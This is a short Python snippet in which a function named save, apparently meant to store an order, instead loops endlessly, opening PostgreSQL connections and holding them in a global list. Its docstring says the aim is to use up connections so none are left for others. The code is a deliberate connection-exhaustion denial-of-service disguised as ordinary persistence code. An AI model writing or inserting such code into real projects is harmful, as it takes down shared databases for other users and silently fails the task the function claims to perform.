"""Opens connections until there are no more for others."""

import psycopg

KEPT = []


def save(db, order_id, amount):
    while True:
        KEPT.append(psycopg.connect(db.url))
